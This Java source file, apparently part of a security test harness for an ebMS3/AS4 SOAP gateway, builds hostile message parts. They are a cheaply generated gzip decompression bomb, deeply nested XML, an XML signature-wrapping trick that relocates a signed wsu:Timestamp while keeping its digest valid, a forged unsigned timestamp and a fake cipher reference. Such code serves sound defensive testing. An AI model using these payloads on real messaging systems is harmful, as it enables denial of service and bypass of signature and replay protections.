package org.cogateway.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

/** The hostile pieces the attacks put into otherwise genuine messages. */
final class Hostile {
    static final String SOAP12 = "http://www.w3.org/2003/05/soap-envelope";
    static final String EB = "http://docs.oasis-open.org/ebxml-msg/ebms/v3.0/ns/core/200704/";
    static final String WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd";
    static final String WSU = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";
    static final String XENC = "http://www.w3.org/2001/04/xmlenc#";
    static final String ATTACKER = "urn:attacker";

    private Hostile() {
    }

    static byte[] gzip(byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(out)) {
            gz.write(content);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    /**
     * A valid gzip stream of {@code mebibytes} MiB of zeros, about 1 KB per MiB, written without
     * deflating all of it: one MiB of zeros is deflated once, ending with a full flush (so the
     * segment refers to nothing before it), and that segment is repeated; the trailer carries the CRC
     * and length of the whole.
     */
    static void zeroBomb(int mebibytes, OutputStream out) throws IOException {
        byte[] mebibyte = new byte[1 << 20];
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(mebibyte);
        ByteArrayOutputStream segment = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        int n;
        while ((n = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH)) > 0) {
            segment.write(buffer, 0, n);
        }
        deflater.end();
        CRC32 crc = new CRC32();
        out.write(new byte[] {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, (byte) 0xff});
        for (int i = 0; i < mebibytes; i++) {
            segment.writeTo(out);
            crc.update(mebibyte);
        }
        out.write(new byte[] {3, 0}); // a final, empty fixed-Huffman block
        long size = (long) mebibytes << 20;
        writeIntLe(out, crc.getValue());
        writeIntLe(out, size);
    }

    static byte[] zeroBomb(int mebibytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            zeroBomb(mebibytes, out);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return out.toByteArray();
    }

    private static void writeIntLe(OutputStream out, long value) throws IOException {
        for (int i = 0; i < 4; i++) {
            out.write((int) (value >>> (8 * i)) & 0xff);
        }
    }

    /** {@code <a><a>...</a></a>}, {@code depth} elements deep. */
    static byte[] deepXml(int depth) {
        StringBuilder xml = new StringBuilder(depth * 7);
        for (int i = 0; i < depth; i++) {
            xml.append("<a>");
        }
        for (int i = 0; i < depth; i++) {
            xml.append("</a>");
        }
        return xml.toString().getBytes(StandardCharsets.UTF_8);
    }

    static Element header(Document envelope) {
        return (Element) envelope.getElementsByTagNameNS(SOAP12, "Header").item(0);
    }

    static Element security(Document envelope) {
        return (Element) envelope.getElementsByTagNameNS(WSSE, "Security").item(0);
    }

    /** A header block of the attacker's own, appended to the SOAP header. */
    static Element stash(Document envelope) {
        Element stash = envelope.createElementNS(ATTACKER, "x:Stash");
        header(envelope).appendChild(stash);
        return stash;
    }

    /**
     * Moves the signed wsu:Timestamp out of wsse:Security into a header block of the attacker's, where
     * its signature still finds it by Id and its digest still matches: the block declares the
     * namespaces wsse:Security declared, which WSS4J lists as inclusive prefixes of the reference.
     */
    static void hideSignedTimestamp(Document envelope) {
        Element ts = (Element) envelope.getElementsByTagNameNS(WSU, "Timestamp").item(0);
        Element stash = stash(envelope);
        var declared = security(envelope).getAttributes();
        for (int i = 0; i < declared.getLength(); i++) {
            var a = declared.item(i);
            if ("http://www.w3.org/2000/xmlns/".equals(a.getNamespaceURI())) {
                stash.setAttributeNS(a.getNamespaceURI(), a.getNodeName(), a.getNodeValue());
            }
        }
        stash.appendChild(ts);
    }

    /** Puts a wsu:Timestamp nobody signed first into wsse:Security. */
    static void addUnsignedTimestamp(Document envelope, Instant created) {
        Element ts = envelope.createElementNS(WSU, "wsu:Timestamp");
        ts.setAttributeNS(WSU, "wsu:Id", "TS-attacker");
        Element c = envelope.createElementNS(WSU, "wsu:Created");
        Instant start = created.truncatedTo(java.time.temporal.ChronoUnit.MILLIS);
        c.setTextContent(start.toString());
        Element e = envelope.createElementNS(WSU, "wsu:Expires");
        e.setTextContent(start.plusSeconds(600).toString());
        ts.appendChild(c);
        ts.appendChild(e);
        Element security = security(envelope);
        security.insertBefore(ts, security.getFirstChild());
    }

    /** An xenc:CipherReference naming {@code contentId}, inside {@code parent}, that nothing decrypts. */
    static void fakeCipherReference(Element parent, String contentId) {
        Document doc = parent.getOwnerDocument();
        Element data = doc.createElementNS(XENC, "xenc:CipherData");
        Element ref = doc.createElementNS(XENC, "xenc:CipherReference");
        ref.setAttribute("URI", "cid:" + contentId);
        data.appendChild(ref);
        parent.appendChild(data);
    }

    /** The Content-ID of the message's (first) payload, from its PartInfo. */
    static String payloadId(Document envelope) {
        Element partInfo = (Element) envelope.getElementsByTagNameNS(EB, "PartInfo").item(0);
        return partInfo.getAttribute("href").substring("cid:".length());
    }
}
